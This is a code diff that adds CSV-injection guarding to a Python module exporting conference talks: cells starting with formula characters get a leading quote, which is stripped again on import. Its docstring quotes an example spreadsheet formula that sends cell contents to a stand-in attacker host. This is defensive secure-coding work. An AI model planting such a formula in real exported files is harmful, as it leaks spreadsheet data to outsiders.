@@ -6,6 +6,11 @@ Why this module looks the way it does:
   written here reads back into the same talks; ``read_csv`` is the inverse of ``write_csv``.
 * CSV is for spreadsheets: one speaker per line as "Name (Affiliation)" and one link per line
   as "kind: url" inside their cells, instead of JSON nobody can read in a spreadsheet.
+* CSV is safe to open in a spreadsheet: a cell that starts with ``=``, ``+``, ``-``, ``@``, a
+  tab or a CR gets a leading single quote, as OWASP advises against CSV injection, so a title
+  like ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` shows as text instead of running.
+  ``read_csv`` removes exactly those quotes again (a text that itself starts with quotes before
+  such a character gets one more), and JSON and JSON Lines keep the original text.
 * No click here: the CLI and the Datasette plugin both call these functions.
 """
 
@@ -19,6 +24,8 @@ from typing import Any, TextIO
 from parsers.talk import EXPORT_FIELDS
 
 _NULLABLE_TEXT = ("title", "starts_at", "ends_at", "timezone", "location", "abstract", "url")
+# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 # --------------------------------------------------------------------------------------------
@@ -62,7 +69,22 @@ def csv_row(talk: Mapping[str, Any]) -> dict[str, str]:
     row["speakers"] = "\n".join(_speaker_label(s) for s in talk.get("speakers") or ())
     row["links"] = "\n".join(f"{lk['kind']}: {lk['url']}" for lk in talk.get("links") or ())
     row["online"] = {True: "true", False: "false"}.get(talk.get("online"), "")
-    return row
+    return {key: guard_cell(cell) for key, cell in row.items()}
+
+
+def guard_cell(cell: str) -> str:
+    """The cell as a spreadsheet shows it as text: a quote before a formula's first character."""
+    return "'" + cell if _needs_guard(cell) else cell
+
+
+def unguard_cell(cell: str) -> str:
+    """Inverse of ``guard_cell``: only a quote that ``guard_cell`` added is removed."""
+    return cell[1:] if cell.startswith("'") and _needs_guard(cell[1:]) else cell
+
+
+def _needs_guard(cell: str) -> bool:
+    """Starts with a formula character, or with quotes before one (so unguarding is exact)."""
+    return cell.lstrip("'").startswith(FORMULA_TRIGGERS)
 
 
 def read_csv(text: str) -> list[dict[str, Any]]:
@@ -72,6 +94,7 @@ def read_csv(text: str) -> list[dict[str, Any]]:
 
 def talk_from_csv_row(row: Mapping[str, str]) -> dict[str, Any]:
     """Inverse of ``csv_row``: empty cells become None, flattened lists become lists again."""
+    row = {key: unguard_cell(cell) if cell else cell for key, cell in row.items()}
     talk: dict[str, Any] = {key: row.get(key) or None for key in EXPORT_FIELDS}
     talk["speakers"] = [_parse_speaker(line) for line in _lines(row.get("speakers"))]
     talk["links"] = [_parse_link(line) for line in _lines(row.get("links"))]
